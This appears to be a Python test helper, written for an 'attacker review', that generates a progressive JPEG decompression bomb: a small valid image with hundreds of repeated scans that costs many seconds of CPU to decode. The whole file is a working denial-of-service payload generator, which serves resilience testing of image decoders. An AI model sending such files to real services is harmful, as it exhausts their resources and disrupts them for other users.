"""A valid greyscale progressive JPEG with hundreds of scans: small on the wire, costly
to decode (each scan is decoded again). Written for the attacker review: 8000x8000 with
883 scans is 228 KB and took 14.7 s of CPU to decode."""

from __future__ import annotations

import struct


def _segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload


class _Bits:
    def __init__(self) -> None:
        self.out, self.acc, self.n = bytearray(), 0, 0

    def put(self, value: int, bits: int) -> None:
        for i in range(bits - 1, -1, -1):
            self.acc, self.n = (self.acc << 1) | ((value >> i) & 1), self.n + 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)  # byte stuffing
                self.acc, self.n = 0, 0

    def flush(self) -> bytes:
        while self.n:
            self.put(1, 1)
        return bytes(self.out)


def progressive_bomb(width: int, height: int, levels: int = 14) -> tuple[bytes, int]:
    """The JPEG and its number of scans (1 + 63 bands x ``levels``)."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    out = b"\xff\xd8" + _segment(0xDB, b"\x00" + b"\x01" * 64)
    out += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    counts = [0] * 16
    counts[0] = 1  # DC: one symbol, category 0
    out += _segment(0xC4, b"\x00" + bytes(counts) + b"\x00")
    counts = [0] * 16
    counts[3] = 15  # AC: the 15 end-of-band-run symbols
    out += _segment(0xC4, b"\x10" + bytes(counts) + bytes(n << 4 for n in range(15)))
    out += _segment(0xDA, bytes([1, 1, 0x00, 0, 0, 0]))
    dc = _Bits()
    for _ in range(blocks):
        dc.put(0, 1)
    out += dc.flush()
    runs, left = _Bits(), blocks
    while left > 0:
        r = min(left, 32767)
        n = r.bit_length() - 1
        runs.put(n, 4)
        if n:
            runs.put(r - (1 << n), n)
        left -= r
    band = runs.flush()
    scans = 1
    for k in range(1, 64):
        out += _segment(0xDA, bytes([1, 1, 0x00, k, k, levels - 1])) + band
        scans += 1
        for ah in range(levels - 1, 0, -1):
            out += _segment(0xDA, bytes([1, 1, 0x00, k, k, (ah << 4) | (ah - 1)])) + band
            scans += 1
    return out + b"\xff\xd9", scans
